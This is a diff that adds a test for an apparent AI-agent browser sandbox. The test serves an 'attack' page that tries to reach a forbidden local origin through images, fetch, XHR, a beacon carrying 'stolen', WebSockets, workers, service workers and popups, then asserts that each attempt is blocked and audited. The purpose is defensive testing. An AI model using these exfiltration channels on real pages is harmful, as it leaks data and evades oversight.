@@ -1,0 +1,157 @@
+import { writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createGate, createPolicy, openAuditLog, parsePermissions, type AuditEntry, type AuditLog, type Gate } from "@worksite/core";
+import { callOk, countingServer, tempDir, waitUntil, type CountingServer } from "../test/helpers.js";
+import { createBrowserPlugin } from "./index.js";
+
+/**
+ * Issue 11, item 6: a page on an allowed origin tries every way it has to
+ * reach a forbidden one. The forbidden server counts what reaches it.
+ */
+let allowed: CountingServer;
+let forbidden: CountingServer;
+let worksite: { path: string; remove(): Promise<void> };
+let gate: Gate;
+let audit: AuditLog;
+let permissions: string;
+
+const js = (body: string) => (_req: unknown, res: import("node:http").ServerResponse) => {
+  res.writeHead(200, { "content-type": "text/javascript" }).end(body);
+};
+
+function attackPage(f: string, a: string): string {
+  const fws = f.replace(/^http/, "ws");
+  const aws = a.replace(/^http/, "ws");
+  return `<!doctype html><html><head><title>Attack</title>
+<link rel="stylesheet" href="${f}/style.css">
+<link rel="prefetch" href="${f}/prefetch">
+</head><body>
+<img src="${f}/pixel.png" alt="">
+<iframe src="${f}/frame" title="frame"></iframe>
+<a id="blank" href="${f}/blank-link" target="_blank">new tab</a>
+<script>
+const settled = [];
+settled.push(fetch("${f}/fetch", { mode: "no-cors" }).then(() => "fetch reached", () => "fetch refused"));
+settled.push(new Promise((r) => { const x = new XMLHttpRequest(); x.open("GET", "${f}/xhr"); x.onload = () => r("xhr reached"); x.onerror = x.onabort = () => r("xhr refused"); x.send(); }));
+navigator.sendBeacon("${f}/beacon", "stolen");
+settled.push(new Promise((r) => { const ws = new WebSocket("${fws}/socket"); ws.onopen = () => r("ws reached"); ws.onerror = ws.onclose = () => r("ws refused"); }));
+settled.push(new Promise((r) => { const ws = new WebSocket("${aws}/own-socket"); ws.onopen = () => { r("own ws open"); ws.close(); }; ws.onerror = () => r("own ws refused"); }));
+settled.push(new Promise((r) => { const es = new EventSource("${f}/events"); es.onopen = () => r("es reached"); es.onerror = () => { es.close(); r("es refused"); }; }));
+settled.push(new Promise((r) => { const w = new Worker("/worker.js"); w.onmessage = (e) => r(e.data); }));
+settled.push(navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then((reg) => new Promise((r) => {
+  navigator.serviceWorker.onmessage = (e) => r(e.data);
+  reg.active.postMessage("go");
+})));
+window.open("${f}/popup");
+document.getElementById("blank").click();
+Promise.all(settled).then((results) => { const p = document.createElement("p"); p.textContent = "RESULTS " + JSON.stringify(results); document.body.append(p); });
+</script></body></html>`;
+}
+
+beforeAll(async () => {
+  forbidden = await countingServer();
+  allowed = await countingServer({
+    "/attack": (_req, res) => { res.writeHead(200, { "content-type": "text/html" }).end(attackPage(forbidden.origin, allowed.origin)); },
+    "/page": (_req, res) => { res.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><title>Plain</title><h1>Plain page</h1>`); },
+    "/worker.js": js(`Promise.all([
+      fetch("${forbidden.origin}/from-worker").then(() => "worker fetch reached", () => "worker fetch refused"),
+      new Promise((r) => { const ws = new WebSocket("${forbidden.origin.replace(/^http/, "ws")}/worker-socket"); ws.onopen = () => r("worker ws reached"); ws.onerror = ws.onclose = () => r("worker ws refused"); }),
+    ]).then((v) => postMessage(v.join(",")));`),
+    "/sw.js": js(`self.addEventListener("install", () => self.skipWaiting());
+      self.addEventListener("activate", (e) => e.waitUntil(clients.claim()));
+      self.addEventListener("message", (e) => e.waitUntil(fetch("${forbidden.origin}/from-service-worker", { mode: "no-cors" })
+        .then(() => "sw fetch reached", () => "sw fetch refused").then((v) => e.source.postMessage(v))));`),
+  }, { acceptWebSockets: true });
+  worksite = await tempDir();
+  permissions = [
+    "# Permissions",
+    "",
+    "## Allow",
+    `- \`browser.*(${allowed.origin}/**)\``,
+    "",
+    "## Forbidden",
+    `- \`browser.*(${forbidden.origin}/**)\``,
+    "",
+  ].join("\n");
+  await writeFile(join(worksite.path, "PERMISSIONS.md"), permissions);
+  audit = openAuditLog(join(worksite.path, ".worksite", "audit.jsonl"));
+  gate = createGate({
+    root: worksite.path,
+    worksite: { permissions: parsePermissions(permissions, { file: "PERMISSIONS.md", root: worksite.path }) },
+    plugins: [createBrowserPlugin({ timeoutMs: 10_000 })],
+    audit,
+    actor: "agent",
+    run: "run-guard",
+    round: 1,
+  });
+});
+
+afterAll(async () => {
+  await gate?.dispose();
+  await allowed?.close();
+  await forbidden?.close();
+  await worksite?.remove();
+});
+
+interface Tally { origin: string; count: number; types: Record<string, number> }
+
+function summaries(entries: AuditEntry[]): Tally[] {
+  return entries
+    .filter((e) => e.type === "navigation" && e.outcome === "blocked" && Array.isArray(e.data?.blocked))
+    .flatMap((e) => e.data!.blocked as Tally[]);
+}
+
+function typesFor(entries: AuditEntry[], origin: string): Record<string, number> {
+  const out: Record<string, number> = {};
+  for (const t of summaries(entries).filter((s) => s.origin === origin)) {
+    for (const [k, n] of Object.entries(t.types)) out[k] = (out[k] ?? 0) + n;
+  }
+  return out;
+}
+
+describe("every request a page makes goes through the origin rules", () => {
+  it("blocks img, css, prefetch, fetch, XHR, beacon, EventSource, WebSockets, popups, iframes, workers and service workers to a forbidden origin before any byte leaves", async () => {
+    let calls = 0;
+    const call = async (tool: string, input: unknown) => { calls++; return callOk(gate, tool, input); };
+
+    await call("browser.open", { url: `${allowed.origin}/attack` });
+    await call("browser.wait-for", { text: "RESULTS" });
+    const fws = forbidden.origin.replace(/^http:/, "ws(s):");
+    // The beacon and the popups give the page no answer: wait until the guard has reported them.
+    const entries = await waitUntil(async () => {
+      await call("browser.wait-for", { time: 0.1 });
+      const all = await audit.entries();
+      const types = typesFor(all, forbidden.origin);
+      const popups = all.filter((e) => e.type === "navigation" && e.outcome === "blocked" && /\/(popup|blank-link)$/.test(e.target ?? ""));
+      return types.Ping && popups.length >= 2 && (typesFor(all, fws).WebSocket ?? 0) >= 2 ? all : undefined;
+    }, "the beacon, both popups and both sockets to be reported");
+
+    expect(forbidden.requests).toEqual([]);
+    expect(forbidden.upgrades).toEqual([]);
+    // Not even a connection: Chromium's only way out is the plugin's proxy, so no preconnect reaches the host either.
+    expect(forbidden.connections()).toBe(0);
+
+    // What the page itself saw: every attempt failed, its own socket opened.
+    const read = (await call("browser.read", {})).result.content;
+    for (const seen of ["fetch refused", "xhr refused", "ws refused", "own ws open", "es refused", "worker fetch refused,worker ws refused", "sw fetch refused"]) {
+      expect(read).toContain(seen);
+    }
+    const types = typesFor(entries, forbidden.origin);
+    expect(Object.keys(types)).toEqual(expect.arrayContaining(["Image", "Stylesheet", "Ping"]));
+    // Chromium files fetch, XHR, EventSource and the workers' fetches under XHR, the prefetch under Fetch.
+    expect((types.XHR ?? 0) + (types.Fetch ?? 0)).toBeGreaterThanOrEqual(5);
+    expect(typesFor(entries, fws).WebSocket).toBeGreaterThanOrEqual(2); // the page's and the worker's
+    // Popups and the iframe are navigations: each is decided and audited on its own, by the forbidden rule.
+    for (const path of ["/popup", "/blank-link", "/frame"]) {
+      expect(entries).toContainEqual(expect.objectContaining({ type: "navigation", target: `${forbidden.origin}${path}`, outcome: "blocked", tier: "forbidden" }));
+    }
+    // Allowed traffic still flows: the page's own WebSocket opened, its worker and service worker loaded.
+    expect(allowed.upgrades).toContain("GET /own-socket");
+    expect(allowed.requests).toEqual(expect.arrayContaining(["GET /attack", "GET /worker.js", "GET /sw.js"]));
+    // One summary entry per call at most: the log holds counts, not one line per image.
+    const summaryEntries = entries.filter((e) => e.type === "navigation" && Array.isArray(e.data?.blocked));
+    expect(summaryEntries.length).toBeGreaterThan(0);
+    expect(summaryEntries.length).toBeLessThanOrEqual(calls);
+  });
+});
